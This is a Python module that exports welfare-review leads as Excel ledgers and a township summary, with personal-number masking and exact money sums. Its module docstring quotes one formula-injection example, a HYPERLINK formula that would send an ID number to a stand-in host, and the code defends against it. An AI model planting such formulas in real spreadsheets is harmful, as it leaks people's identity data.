"""Ledgers (台账) county offices file: the 摸排台账 of each case type, one sheet per township,
and the township summary (汇总表), as XLSX built from the published cases.

The columns are those of the county 摸排台账 form, then Doudi's own (case type, risk score,
amount at risk, review status, case id). 目前享受救助类型 takes the form's values (低保, 特困,
临时救助, 无) from the person's roster rows active on the run's as-of day (``as_of`` of the
case's detail; the day of export for a case published before it was kept): a row counts when
the member is covered (是否保障对象 是) and has no 退出日期 or one on or after that day — a
member on a case but not covered is not 低保, and a 退出日期 still to come is active. For a
person found outside the rosters (a missed severely disabled person, a key-group member not
covered) the form's 通过排查拟纳入救助 and 未纳入原因 come from the reviewer's decision.

Every text is written as a text cell, never as a formula: a registry value or a reviewer's
reason such as ``=HYPERLINK("http://x/?"&E3,"详情")`` would otherwise be live in the clerk's
spreadsheet (and could send a full ID number out). Text that a spreadsheet would read as a
formula when typed (starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return) is
also marked quote-prefixed, so that it stays text when the clerk edits the cell. Numbers
(amounts, scores, counts) stay numbers; an amount in 元 (涉及金额, 家庭人均月纯收入) is shown with
two decimals and thousands separators (``MONEY_FORMAT``), never in scientific notation.

家庭人数 and 家庭人均月纯收入 come from the person's current records only, one roster row of them
(``_household_row``, which 与户主关系 and 健康状况 come from too; ``household_figures``;
the 梁平 forms give a 建档立卡 household's figures instead, ``api.liangping_forms``): the roster
rows covered and active on the as-of day, else the
建档立卡 household (its number of members, its yearly income per person / 12, rounded half-up
to the fen). An ended roster row is history, not the family's present.

The 汇总表 counts every case that stands (not resolved by data, or confirmed before data
resolved it: a confirmed lead stays counted with its money, and the 摸排台账 lists it with
核查状态 ``属实（后续数据中依据已不再出现）``), by review status, and gives two amounts:
that of the cases still open (未结: 待核查, 核查中, 需入户核查 — the review page's overview) and
that of the cases confirmed (属实: the money to recover); a case found untrue (不属实) has no
amount at risk. Amounts are summed in whole fen. A note under the table says so.

What the latest run's data could not judge (``models.data_gaps``: a registry absent, or holding
no row of a township) is no 0: the 汇总表's cell of such a type and township reads 未判断
(``UNJUDGED``; a lead found there all the same is counted), a township of the roster without
open leads gets its row all the same, the 合计 reads 未判断 for a type judged nowhere, and a
second note under the table gives each gap in words (``unjudged_note``); an empty 摸排台账 of
such a type says it was not judged, and why, instead of that there are no leads.
"""

from __future__ import annotations

import io
import re
from collections.abc import Iterable, Mapping
from datetime import date
from decimal import ROUND_HALF_UP, Decimal
from typing import Any

import duckdb
from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell
from openpyxl.styles import Alignment, Font, PatternFill
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.properties import PageSetupProperties
from openpyxl.worksheet.worksheet import Worksheet

from api.masking import masked_row
from api.published import CLOSED, Published, stands
from models.amounts import in_fen
from models.case_types import CASE_LABELS, CASE_TYPES
from models.coverage_forms import poverty_household_sizes
from models.detectors.deceased_paid import DIED_BEFORE_SAID, OTHER_DAY_SAID, SOURCE_SAID
from models.detectors.unenrolled_key_person import KEY_GROUPS_SAID
from resolver.normalize import code_label
from resolver.registries import REGISTRIES
from resolver.tables import DATE_KINDS
from resolver.xlsx import FORMULA_STARTS

LEDGER_COLUMNS = (
    "序号", "乡镇", "所属村组", "姓名", "身份证号码", "家庭人数", "与户主关系", "健康状况",
    "致贫原因", "家庭人均月纯收入（元）", "目前享受救助类型", "联系电话", "通过排查拟纳入救助",
    "未纳入原因", "疑点类型", "风险评分", "涉及金额（元）", "核查状态", "责任人", "整改时限",
    "疑点编号",
)  # fmt: skip
SUMMARY_COLUMNS = ("乡镇", *CASE_LABELS.values(), "疑点合计", "属实", "不属实", "核查中或需入户核查",
                   "待核查", "未结疑点涉及金额（元）", "属实疑点涉及金额（元）")  # fmt: skip
# What every total of amounts at risk says (the 汇总表, the review page's overview, the
# monthly report): the leads' amounts are added, and one payment may rest under two leads.
SHARED_PAYMENTS_NOTE = (
    "同一笔发放可能是两条疑点的依据（如一条死亡记录对应两位同名者、超标准家庭中有成员死亡），"
    "合计金额按疑点相加，可能重复计算，追回时请按每条疑点核实的金额。"
)
SUMMARY_NOTE = (
    "说明（系统生成）：各类疑点数和疑点合计为未因数据变化消除的疑点（含已核实属实、不属实的；"
    "已核实属实的疑点在后续数据中依据不再出现时仍计入），"
    "疑点合计＝属实＋不属实＋核查中或需入户核查＋待核查；未结疑点涉及金额为待核查、核查中、"
    "需入户核查疑点的涉及金额，与审核页面“疑点汇总”的涉及金额一致；属实疑点涉及金额为核实属实"
    "疑点的涉及金额（应追回或整改的金额）；核实不属实的疑点不计金额。金额按分精确合计。"
    + SHARED_PAYMENTS_NOTE
)
# An empty 摸排台账: its one sheet, and what its title adds.
EVERY_TOWNSHIP, NO_LEADS = "全部乡镇", "（本次运行无此类疑点）"
# A count the run's data could not judge (a registry absent, or holding no row of a township).
UNJUDGED = "未判断"
# A type the local policy does not look for (its setting off): in its ledger's title, in the
# 汇总表's cells and under it; until 2026-12-07 (evening) such a ledger read 本次运行无此类疑点.
NOT_CHECKED, NOT_CHECKED_TITLE = "未检查", "（本地政策未规定此项，未检查）"
# A date cell (yyyy-mm-dd) needs this width: narrower, a spreadsheet shows ########.
DATE_WIDTH, DATE_HEADERS = 12, frozenset({"整改时限", "首次发现", "纳入日期", "退出日期"})
MONEY_FORMAT = "#,##0.00"  # 元, two decimals and thousands separators: 2,870.70
FEN = Decimal("0.01")
HEADER_FILL = PatternFill("solid", fgColor="DDEBF7")
# Case types about a person outside the rosters: the form's inclusion columns apply.
COVERAGE_TYPES = tuple(name for name, spec in CASE_TYPES.items() if spec.coverage)
_SHEET_UNSAFE = re.compile(r"[\[\]:*?/\\']")  # characters a sheet name may not hold


def ledger_rows(published: Published, case_type: str, township: str | None = None,
                county: str | None = None, households: Mapping[str, int] | None = None,
                ) -> list[list]:  # fmt: skip
    """The 摸排台账 rows of one case type (optionally one township, or one county of a province
    drop), by township, village, highest risk first; a drop of several counties writes each
    township after its county's name (``Published.township_of``: 大姚县 城关).

    Parameters
    ----------
    published : Published
        The published cases and the decisions so far.
    case_type : str
        A case type (a key of ``CASE_TYPES``).
    township : str or None
        Only this township's cases; every township's when None.
    county : str or None
        Only the cases resting on rows of this county; every county's when None.
    households : mapping of str to int, optional
        The size of the 建档立卡 household of each 建档立卡 record id
        (``models.coverage_forms.poverty_household_sizes``): the 家庭人数 of a person on no
        current roster row. Without it, such a person's 家庭人数 is blank.

    Returns
    -------
    list of list
        One row per open case, in ``LEDGER_COLUMNS`` order, numbered from 1.
    """
    published = published.of_county(county)  # its cases where it files them, by its names
    cases = _ledger_cases(published, case_type, township, None)
    cases.sort(
        key=lambda c: (published.township_of(c), c["village"] or "", -(c["risk_score"] or 0))
    )
    return [[number, *_ledger_row(published, case, households or {})]
            for number, case in enumerate(cases, 1)]  # fmt: skip


def ledger_size(published: Published, case_type: str, township: str | None = None,
                county: str | None = None) -> int:  # fmt: skip
    """How many rows ``ledger_rows`` gives (the open cases of the type), without building them.

    Parameters
    ----------
    published : Published
        The published cases and the decisions so far.
    case_type : str
        A case type (a key of ``CASE_TYPES``).
    township : str or None
        Only this township's cases; every township's when None.
    county : str or None
        Only this county's cases; every county's when None.

    Returns
    -------
    int
        The number of rows of the ledger.
    """
    return len(_ledger_cases(published, case_type, township, county))


def ledger_households(con: duckdb.DuckDBPyConnection) -> dict[str, int]:
    """The ``households`` of ``ledger_rows``: the size of each 建档立卡 row's household, read
    from the run's database as the 梁平 forms read it
    (``models.coverage_forms.poverty_household_sizes``).

    Parameters
    ----------
    con : duckdb.DuckDBPyConnection
        The run's database.

    Returns
    -------
    dict of str to int
        建档立卡 record id -> the number of members of its household; empty without a
        建档立卡 registry.
    """
    return poverty_household_sizes(con)


def _ledger_cases(published: Published, case_type: str, township: str | None,
                  county: str | None) -> list[dict]:  # fmt: skip
    return [case for case in open_cases(published, county) if case["case_type"] == case_type
            and (township is None
                 or township in (case["township"], published.township_of(case)))]  # fmt: skip


def open_cases(published: Published, county: str | None = None) -> list[dict]:
    """The cases that stand (``api.published.stands``: not resolved by data, or resolved
    after a reviewer confirmed them), of one county of a province drop when ``county`` is
    given (a case resting on rows of two counties is in both counties' ledgers, each at its
    own township: ``Published.of_county``).

    Parameters
    ----------
    published : Published
        The published cases and the decisions so far.
    county : str or None
        The county; every case when None.

    Returns
    -------
    list of dict
        The cases.
    """
    chosen = published.of_county(county)
    return [case for case in chosen.cases.values() if stands(case, chosen.status(case["case_id"]))]


def _ledger_row(published: Published, case: dict[str, Any], households: Mapping[str, int]) -> list:
    rows = case["detail"]["rows"]
    first = f"{case['records'][0]['registry']}:{case['records'][0]['record_id']}"
    subject = next((row for row in rows if row["unique_id"] == first), rows[0] if rows else {})
    mine = [row for row in rows if row.get("person_id") == subject.get("person_id")]
    if not subject.get("person_id"):  # a row linked to no one: only itself is the person's
        mine = [subject] if subject else []
    assistance = [row for row in mine if row["registry"] == "assistance"]
    # the first 建档立卡 row by record id, as the 梁平 forms take it
    poverty = min((row for row in mine if row["registry"] == "poverty"),
                  key=lambda row: str(row["record_id"]), default={})  # fmt: skip
    as_of = _as_of(case)
    household = _household_row(subject, assistance + _listed_with(assistance, rows, as_of), as_of)
    size, income = household_figures([household] if household else [], as_of,
                                     households.get(poverty.get("record_id")),
                                     poverty.get("income_per_capita_year"))  # fmt: skip
    own = _own_row(household, assistance)
    relation = _relation(household, own, assistance, as_of, [poverty, *mine])
    status = published.status(case["case_id"])
    decided = published.history.get(case["case_id"], [])
    assigned = published.assignments.get(case["case_id"]) or {}
    due = assigned.get("due_date")
    return [
        published.township_of(case), case["village"], subject.get("name"),
        _first(row.get("id_number") for row in [subject, *mine]
               if row.get("id_number_status") in ("valid", "upgraded")),
        size, relation, _health(subject, [own, *mine]),
        poverty.get("poverty_cause"), income,
        programs_on(assistance, as_of), _first(row.get("phone") for row in mine),
        *inclusion(case["case_type"], status, decided),
        _kind(case), round(case["risk_score"] or 0.0, 4),
        case["amount_at_risk"], published.status_label(case), assigned.get("assignee"),
        due, case["case_id"],
    ]  # fmt: skip


# Which way a 低保与建档立卡台账不一致 lead runs, by the registry of its first record: the two
# offices the documents give the two directions to (应保尽保: 民政; 应扶尽扶: 扶贫).
ROSTER_GAP_WAYS = {"assistance": "在保对象未在建档立卡台账：应扶尽扶",
                   "poverty": "扶贫低保户未纳入低保或特困：应保尽保"}  # fmt: skip


def _kind(case: dict[str, Any]) -> str:
    """A lead's 疑点类型 in a ledger: its type, and for a key-group lead the groups its person
    is of (the documents ask for a 名册 per group), for a roster-comparison lead which way it
    runs (until 2026-12-07 (evening) the type alone: a blind tester could not tell them).

    Examples
    --------
    >>> _kind({"case_type": "unenrolled_key_person", "records": [],
    ...        "evidence": ["[建档立卡 JD1] 建档立卡户 53…", "属于重点排查人群：零劳力"]})
    '重点人群未纳入保障（零劳力）'
    >>> _kind({"case_type": "roster_gap", "records": [{"registry": "poverty"}], "evidence": []})
    '低保与建档立卡台账不一致（扶贫低保户未纳入低保或特困：应保尽保）'
    >>> _kind({"case_type": "deceased_paid", "records": [],
    ...        "evidence": ["[死亡人员 SW7] 死亡日期 2024-11-04（来源：卫健）", "[救助对象 J1] …"]})
    '死亡后仍发放（死亡日期 2024-11-04，来源：卫健）'
    """
    label = CASE_LABELS[case["case_type"]]
    if case["case_type"] == "roster_gap" and case["records"]:
        return f"{label}（{ROSTER_GAP_WAYS[case['records'][0]['registry']]}）"
    if case["case_type"] == "deceased_paid" and (death := _death_said(case["evidence"])):
        return f"{label}（{death}）"
    groups = next((line.removeprefix(KEY_GROUPS_SAID) for line in case["evidence"]
                   if line.startswith(KEY_GROUPS_SAID)), None)  # fmt: skip
    return f"{label}（{groups}）" if groups else label


def _death_said(evidence: list[str]) -> str | None:
    """The date and source of the notice a death lead rests on, from its evidence (the first
    notice's date line), as a ledger's 疑点类型 says them, a day other than the death's named
    as what it is with the death on or before it (``OTHER_DAY_SAID``); None when no notice
    gives a date. Until 2026-12-07 (late) the death ledger gave no date of death at all;
    until 2026-12-07 (night) it called a 火化日期 or 户口注销日期 the 死亡日期.

    >>> _death_said(["[死亡人员 SW7] 火化日期 2024-11-04（来源：殡葬）" + OTHER_DAY_SAID])
    '火化日期 2024-11-04，来源：殡葬，死亡在此日或之前'
    """
    notice = f"[{REGISTRIES['deaths'].chinese} "
    dated = tuple(f"{kind} " for kind in DATE_KINDS)
    said = next((line.partition("] ")[2] for line in evidence
                 if line.startswith(notice) and line.partition("] ")[2].startswith(dated)),
                None)  # fmt: skip
    if said is None:
        return None
    day, _, source = said.removesuffix(OTHER_DAY_SAID).partition(SOURCE_SAID)
    shown = f"{day}，来源：{source.removesuffix('）')}" if source else day
    return f"{shown}，{DIED_BEFORE_SAID}" if said.endswith(OTHER_DAY_SAID) else shown


def _household_row(subject: dict[str, Any], roster: list[dict], as_of: date) -> dict:
    """The one roster row a ledger row's 家庭人数, 家庭人均月纯收入, 与户主关系 and 健康状况 come
    from: the lead's own row where it is covered and active, else the first such row of
    ``roster`` (the person's, or of the case he is listed on uncovered); empty without one.
    Until 2026-12-07 each column took the first row giving it: a duplicate's ledger row read
    家庭人数 3 and income 150 of her 低保 case beside 户主 of her 户籍 and 特困 rows, where the
    低保 case wrote 母亲."""
    current = [row for row in roster if active_on(row, as_of)]
    return subject if subject in current else next(iter(current), {})


def _own_row(household: dict, assistance: list[dict]) -> dict:
    """The person's own roster row of the ``household`` row's case (the row itself, or his
    uncovered row of the case he is listed on); empty without one."""
    if household in assistance:
        return household
    return next((row for row in assistance
                 if household and row.get("case_no") == household.get("case_no")), {})  # fmt: skip


def _relation(household: dict, own: dict, assistance: list[dict], as_of: date,
              others: list[dict]) -> str | None:  # fmt: skip
    """与户主关系: the person's ``own`` row's of the ``household`` row's case, naming that case
    where the person is covered on two or more (母亲（低保案件 DB3）; a case without its 救助证号
    by its program alone); without a current roster row, or where his one case's row gives
    none (a 特困 roster without the column), the first of ``others`` (建档立卡, 户籍) giving one."""
    if not household:
        return code_label("relation", _first(row.get("relation") for row in others))
    relation = code_label("relation", own.get("relation"))
    cases = {(row.get("program"), row.get("case_no")) for row in assistance
             if active_on(row, as_of)}  # fmt: skip
    if len(cases) < 2:
        return relation or code_label("relation", _first(row.get("relation") for row in others
                                                         if row not in assistance))  # fmt: skip
    if relation is None:
        return None
    program = FORM_PROGRAMS.get(household.get("program"), UNKNOWN_PROGRAM)
    number = f" {household['case_no']}" if household.get("case_no") else ""
    return f"{relation}（{program}案件{number}）"


def _listed_with(assistance: list[dict], rows: list[dict], as_of: date) -> list[dict]:
    """The covered, active rows of the open cases a person is listed on without being covered
    (是否保障对象 否): his household's present figures where none of his own rows is covered
    (a severely disabled son left off his parents' case; until 2026-12-07 his 家庭人数 and
    家庭人均月纯收入 were blank, though his lead rests on that case's income)."""
    if any(active_on(row, as_of) for row in assistance):
        return []
    listed = {row.get("case_no") for row in assistance
              if row.get("covered") != "yes" and not row.get("end_date")}  # fmt: skip
    return [row for row in rows if row["registry"] == "assistance"
            and row.get("case_no") in listed - {None} and active_on(row, as_of)]  # fmt: skip


# The registries whose rows say 健康状况, as a ledger names them beside a certificate (_health).
HEALTH_SAID_BY = {"assistance": "花名册", "poverty": "建档立卡"}


def _health(subject: dict[str, Any], mine: list[dict]) -> str | None:
    """健康状况 as the person's rows write it; for a lead resting on a disability certificate
    (重度残疾未纳入), with the certificate's category and level (残疾（肢体残疾1级）): until
    2026-12-07 the ledger said only 残疾, and a clerk could not see which certificate the lead
    rests on. The certificate rules: a roster's 健康 or 患有大病 beside it is not written
    (until 2026-12-07 (evening) 健康（肢体残疾2级） read against itself: a blind tester's 4 of 18
    rows); the word of the row it is read from is said after it where it is another, naming
    that row's registry (残疾（…；花名册记为健康）, 残疾（…；建档立卡记为健康）: a lead not enrolled
    has often no roster row, and until 2026-12-07 (night) a 建档立卡 row's word read 花名册)."""
    source = next((row for row in mine if row.get("health") not in (None, "")), {})
    health = code_label("health", source.get("health"))
    if subject.get("registry") != "disability" or subject.get("disability_level") is None:
        return health
    kind = code_label("disability_type", subject.get("disability_type")) or ""
    said = HEALTH_SAID_BY.get(source.get("registry"), "名册")
    other = f"；{said}记为{health}" if health and health != "残疾" else ""
    return f"残疾（{kind}残疾{subject['disability_level']}级{other}）"


def _first(values: Iterable[Any]) -> Any:
    return next((value for value in values if value not in (None, "")), None)


def household_figures(
    roster: Iterable[dict], as_of: date, poverty_size: int | None, income_year: Any
) -> tuple[int | None, float | None]:
    """家庭人数 and 家庭人均月纯收入 of a person, from their current records only (the
    摸排台账): the roster rows covered and active on ``as_of``
    (``active_on``); without one, the 建档立卡 household. An ended or uncovered row is
    history: its household and income are not the family's present.

    Parameters
    ----------
    roster : iterable of dict
        The person's roster rows (``covered``, ``end_date``, ``household_size``,
        ``income_per_capita``).
    as_of : date
        The day the run judged "active" on.
    poverty_size : int or None
        The number of members of the person's 建档立卡 household (None: not in the registry).
    income_year : float, Decimal or None
        The 建档立卡 yearly income per person (None: not given).

    Returns
    -------
    tuple of (int or None, float or None)
        家庭人数 and 家庭人均月纯收入 (``monthly_income``), each None when no record gives it.

    Examples
    --------
    >>> ended = {"covered": "yes", "end_date": "2024-06-30", "household_size": 4,
    ...          "income_per_capita": 900.0}
    >>> household_figures([ended], date(2026, 10, 31), 1, 2400.06)
    (1, 200.01)
    >>> household_figures([ended | {"end_date": None}], date(2026, 10, 31), 1, 2400.06)
    (4, 900.0)
    """
    current = [row for row in roster if active_on(row, as_of)]
    size = _first(row.get("household_size") for row in current)
    return (poverty_size if size is None else int(size)), monthly_income(current, income_year)


def monthly_income(current: Iterable[dict], income_year: Any) -> float | None:
    """家庭人均月纯收入: the first given roster row's monthly income, else the 建档立卡 yearly
    figure / 12, rounded half-up to the fen (四舍五入) in decimal arithmetic.

    Parameters
    ----------
    current : iterable of dict
        The person's current roster rows (``income_per_capita``).
    income_year : float, Decimal or None
        The 建档立卡 yearly income per person.

    Returns
    -------
    float or None
        The monthly income per person, to the fen; None when neither gives one.

    Examples
    --------
    >>> [monthly_income([], year) for year in (2400.06, 3600.06, 1200.30)]
    [200.01, 300.01, 100.03]
    >>> monthly_income([{"income_per_capita": 2870.7}], 2400.0), monthly_income([], None)
    (2870.7, None)
    """
    monthly = _first(row.get("income_per_capita") for row in current)
    if monthly is not None:
        value = _decimal(monthly)
    elif income_year is not None and income_year != "":
        value = _decimal(income_year) / 12
    else:
        return None
    return float(value.quantize(FEN, rounding=ROUND_HALF_UP))


def _decimal(amount: Any) -> Decimal:
    """An amount as the decimal it was written as (a float by its shortest repr: 2400.06, not
    2400.05999…)."""
    return amount if isinstance(amount, Decimal) else Decimal(str(amount))


def to_fen(amount: Any) -> int:
    """An amount in 元 as whole fen (half-up), to be summed exactly; 0 for None.

    Parameters
    ----------
    amount : float, Decimal or None
        The amount in 元.

    Returns
    -------
    int
        The amount in fen.

    Examples
    --------
    >>> to_fen(820.2) + to_fen(7173.44), to_fen(None), to_fen(0.005)
    (799364, 0, 1)
    """
    return 0 if amount is None else in_fen(amount)


# The form's 目前享受救助类型, by program code, in the form's order; 无 when none is active.
# A covered, active row whose program could not be read is 类型不明, not 无: the data-quality
# list names the cell.
FORM_PROGRAMS = {"dibao": "低保", "tekun": "特困", "temporary": "临时救助"}
NO_PROGRAM, UNKNOWN_PROGRAM = "无", "类型不明"


def _as_of(case: dict[str, Any]) -> date:
    """The day the run judged "active" on (the day of export for an older case)."""
    as_of = (case.get("detail") or {}).get("as_of")
    return date.fromisoformat(as_of) if as_of else date.today()


def programs_on(assistance: list[dict], as_of: date) -> str:
    """目前享受救助类型: the programs of the covered rows active on ``as_of``, or 无.

    Parameters
    ----------
    assistance : list of dict
        The person's roster rows (``program``, ``covered``, ``end_date``).
    as_of : date
        The day the run judged "active" on.

    Returns
    -------
    str
        The form's values (低保, 特困, 临时救助) joined by 、, 类型不明 for a program that
        could not be read, or 无.
    """
    active = {row.get("program") for row in assistance if active_on(row, as_of)}
    labels = [label for code, label in FORM_PROGRAMS.items() if code in active]
    if active - set(FORM_PROGRAMS):
        labels.append(UNKNOWN_PROGRAM)
    return "、".join(labels) or NO_PROGRAM


def active_on(row: dict, as_of: date) -> bool:
    """A covered roster row begun by ``as_of`` and not ended before it (a 退出日期 to come is
    still active; a 纳入日期 to come is not yet).

    Parameters
    ----------
    row : dict
        A roster row (``covered``, ``start_date`` when known, ``end_date``).
    as_of : date
        The day the run judged "active" on.

    Returns
    -------
    bool
        Whether the row is covered and active that day.

    Examples
    --------
    >>> row = {"covered": "yes", "start_date": "2026-11-01", "end_date": None}
    >>> active_on(row, date(2026, 10, 31)), active_on(row, date(2026, 11, 30))
    (False, True)
    """
    if row.get("covered") != "yes":
        return False
    start, end = row.get("start_date"), row.get("end_date")
    if start and date.fromisoformat(str(start)[:10]) > as_of:
        return False
    return not end or date.fromisoformat(str(end)[:10]) >= as_of


def inclusion(case_type: str, status: str, events: list[dict]) -> tuple[str, str]:
    """通过排查拟纳入救助 and 未纳入原因, for a person found outside the rosters.

    Parameters
    ----------
    case_type : str
        The case's type (only coverage types fill the columns).
    status : str
        The case's review status.
    events : list of dict
        The case's history (the last dismissal's ``reason``).

    Returns
    -------
    tuple of (str, str)
        是 / 否 / 待核查 and the reason not enrolled; two blanks for other types.
    """
    if case_type not in COVERAGE_TYPES:
        return "", ""
    if status == "confirmed":
        return "是", ""
    if status == "dismissed":
        return "否", next((e["reason"] for e in reversed(events) if e.get("reason")), "")
    return "待核查", ""


def summary_rows(published: Published, county: str | None = None) -> list[list]:
    """The 汇总表: per township (after its county's name in a drop of several counties:
    ``Published.township_of``), the cases that stand (``open_cases``) by type, their total and
    their review outcome, the amount at risk of those still open (未结, as the overview
    counts it) and that of those confirmed (属实); a case found untrue (不属实) has none. A 0
    the latest run's data could not judge there reads 未判断 (``UNJUDGED``), a township of
    such a gap gets its row without leads, and the 合计 reads 未判断 for a type judged nowhere
    (``models.data_gaps.DataGaps.everywhere``).

    Parameters
    ----------
    published : Published
        The published cases and the decisions so far.
    county : str or None
        Only this county's cases (a province drop); every case when None.

    Returns
    -------
    list of list
        One row per township in ``SUMMARY_COLUMNS`` order, then the 合计 row (zeros when
        no case is open); amounts in 元, summed in whole fen; a count not judged is 未判断.

    Examples
    --------
    >>> def case(case_id, township, amount):
    ...     return {"case_id": case_id, "case_type": "deceased_paid", "risk_score": 0.5,
    ...             "amount_at_risk": amount, "township": township, "village": "东村",
    ...             "person_ids": [], "run_id": "r-1", "resolved_run": None, "records": "[]",
    ...             "evidence": "[]", "detail": "{}"}
    >>> published = Published([case("c1", "城关", 820.2), case("c2", "石羊", 7173.44)],
    ...                       [], [], [], [])
    >>> [row[-7:] for row in summary_rows(published)]
    [[1, 0, 0, 0, 1, 820.2, 0.0], [1, 0, 0, 0, 1, 7173.44, 0.0], [2, 0, 0, 0, 2, 7993.64, 0.0]]
    """
    table: dict[str, dict[str, Any]] = {}
    published = published.of_county(county)  # its cases where it files them, by its names
    for case in open_cases(published):
        line = _summary_line(table, published.township_of(case), case["county"])
        line["types"][case["case_type"]] = line["types"].get(case["case_type"], 0) + 1
        status = published.status(case["case_id"])
        line["statuses"][status] = line["statuses"].get(status, 0) + 1
        if status not in CLOSED:  # 未结, as the overview counts it
            line["unclosed"] += to_fen(case["amount_at_risk"])
        elif status == "confirmed":
            line["confirmed"] += to_fen(case["amount_at_risk"])
    for township, place in published.unjudged_townships().items():  # its 未判断 shown
        _summary_line(table, township, place)
    rows, unchecked = [], published.unchecked_types()
    for township, line in sorted(table.items()):
        by_status, unjudged = line["statuses"], published.unjudged_at(line["county"], township)
        rows.append([township, *(_judged(line["types"].get(kind, 0), kind in unjudged,
                                         kind in unchecked) for kind in CASE_LABELS),
                     sum(line["types"].values()), by_status.get("confirmed", 0),
                     by_status.get("dismissed", 0),
                     by_status.get("in_review", 0) + by_status.get("field_check", 0),
                     by_status.get("open", 0), line["unclosed"], line["confirmed"]])  # fmt: skip
    totals = [sum(row[i] for row in rows if isinstance(row[i], int))
              for i in range(1, len(SUMMARY_COLUMNS))]  # fmt: skip
    nowhere = published.gaps.everywhere()
    totals[: len(CASE_LABELS)] = [_judged(total, kind in nowhere, kind in unchecked)
                                  for total, kind in zip(totals, CASE_LABELS, strict=False)]  # fmt: skip
    rows.append(["合计", *totals])  # zeros for a county without leads: a form filed all the same
    for row in rows:  # fen to 元, after the exact sums
        row[-2:] = [fen / 100 for fen in row[-2:]]
    return rows


def _summary_line(table: dict[str, dict[str, Any]], township: str,
                  county: str | None) -> dict[str, Any]:  # fmt: skip
    """The 汇总表's tally of a township (of ``county``, as stored), made when missing."""
    return table.setdefault(township, {"county": county, "unclosed": 0, "confirmed": 0,
                                       "types": {}, "statuses": {}})  # fmt: skip


def _judged(count: int, unjudged: bool, unchecked: bool = False) -> int | str:
    """A count of leads as the 汇总表 writes it: 未检查 for a type the local policy does not
    look for, 未判断 for a 0 the data could not judge (a lead found all the same is
    counted)."""
    if unchecked and not count:
        return NOT_CHECKED
    return UNJUDGED if unjudged and not count else count


def unjudged_note(published: Published, case_type: str | None = None,
                  township: str | None = None) -> str | None:  # fmt: skip
    """What a ledger says under its table of what the latest run's data could not judge
    (``models.data_gaps.Unjudged.text``), of one case type and township when given; None
    when it judged them all.

    Parameters
    ----------
    published : Published
        The published cases, of the county the ledger is of.
    case_type : str or None
        Only the gaps leaving this type unjudged; every gap when None.
    township : str or None
        Only the gaps of this township (or of every township); every gap when None.

    Returns
    -------
    str or None
        ``未能判断（缺少数据）：…`` or None.
    """
    texts = [item.text() for item in published.unjudged_gaps(township=township)
             if case_type in (None, *item.case_types)]  # fmt: skip
    if not texts:
        return None
    return (f"未能判断（缺少数据）：{'；'.join(texts)}。表中“{UNJUDGED}”不是 0：这些乡镇（或全部乡镇）的"
            "这类疑点未经判断；部分乡镇未判断的类型，合计只计已判断乡镇的疑点。")  # fmt: skip


def ledger_workbook(
    published: Published, case_type: str, *, township: str | None = None,
    county: str | None = None, masked: bool, households: Mapping[str, int] | None = None,
) -> bytes:  # fmt: skip
    """One case type's 摸排台账: a sheet per township (or the one asked for); ID and phone
    numbers masked when ``masked`` (``api.masking``). Text is written as text, never as a formula (``text_cells``).

    Parameters
    ----------
    published : Published
        The published cases and the decisions so far.
    case_type : str
        A case type (a key of ``CASE_TYPES``).
    township : str or None
        Only this township's sheet; a sheet per township when None.
    county : str or None
        Only this county's cases (a province drop); every case when None.
    masked : bool
        Whether ID and phone numbers are masked (for roles that may not see them).
    households : mapping of str to int, optional
        The size of the 建档立卡 household of each 建档立卡 record id (``ledger_rows``).

    Returns
    -------
    bytes
        The XLSX file.
    """
    rows = ledger_rows(published, case_type, township, county, households)
    if masked:
        rows = [masked_row(row, LEDGER_COLUMNS) for row in rows]
    townships = sorted({row[1] or "未知" for row in rows}) or [township or EVERY_TOWNSHIP]
    scoped = published.of_county(county)
    note = None if rows else unjudged_note(scoped, case_type, township)
    empty = _empty_title(scoped, case_type, township, county, note)
    book = Workbook()
    book.remove(book.active)
    for name in townships:
        sheet_rows = [row for row in rows if (row[1] or "未知") == name]
        numbered = [[i, *row[1:]] for i, row in enumerate(sheet_rows, 1)]
        place = "" if name == EVERY_TOWNSHIP else name
        title = f"{place}{CASE_LABELS[case_type]}摸排台账{'' if rows else empty}"
        sheet = _sheet(book, name, title, LEDGER_COLUMNS, numbered)
        money_cells(sheet, LEDGER_MONEY, 3)
        if note:
            _note_row(sheet, note, len(LEDGER_COLUMNS))
    return _bytes(book)


def _empty_title(published: Published, case_type: str, township: str | None,
                 county: str | None, note: str | None) -> str:  # fmt: skip
    """What the title of a 摸排台账 without leads adds: that the local policy does not look
    for the type (``Published.unchecked_types``), that the data could not judge it
    (everywhere it covers, or in some of its townships: ``note`` says which), else that
    there are none."""
    if case_type in published.unchecked_types():
        return NOT_CHECKED_TITLE
    if note and (township or case_type in published.gaps.everywhere()):
        return "（缺少数据，未判断此类疑点，见表下说明）"
    if note:
        return "（已判断的乡镇无此类疑点；部分乡镇缺少数据未判断，见表下说明）"
    return "（本乡镇无此类疑点）" if township else "（本区县无此类疑点）" if county else NO_LEADS


def summary_workbook(published: Published, county: str | None = None) -> bytes:
    """The township summary (汇总表, ``summary_rows``) as an XLSX file, with what its counts
    are under the table and, where the latest run's data could not judge some, which and why
    (``unjudged_note``).

    Parameters
    ----------
    published : Published
        The published cases and the decisions so far.
    county : str or None
        Only this county's cases (a province drop); every case when None.

    Returns
    -------
    bytes
        The XLSX file.
    """
    book = Workbook()
    book.remove(book.active)
    title = f"{county or ''}兜底疑点排查汇总表"
    sheet = _sheet(book, "汇总表", title, SUMMARY_COLUMNS, summary_rows(published, county))
    money_cells(sheet, SUMMARY_MONEY, 3)
    scoped = published.of_county(county)
    for note in (_unchecked_note(scoped), SUMMARY_NOTE, unjudged_note(scoped)):
        if note:
            _note_row(sheet, note, len(SUMMARY_COLUMNS))
    return _bytes(book)


def _unchecked_note(published: Published) -> str | None:
    """What the 汇总表 says under its table of the types the local policy does not look for."""
    unchecked = published.unchecked_types()
    labels = [CASE_LABELS[kind] for kind in CASE_LABELS if kind in unchecked]
    if not labels:
        return None
    return (
        f"{NOT_CHECKED}：本地政策未规定{'、'.join(labels)}的排查（政策配置中此项未设置），"
        f"本次运行未检查这些疑点；表中“{NOT_CHECKED}”不是 0。"
    )


def _note_row(sheet: Worksheet, note: str, columns: int) -> None:
    """A note under the table: one text cell across its ``columns``, tall enough to read."""
    sheet.append(text_cells(sheet, [note]))
    row = sheet.max_row
    sheet.merge_cells(start_row=row, start_column=1, end_row=row, end_column=columns)
    sheet.cell(row, 1).alignment = Alignment(wrap_text=True, vertical="top")
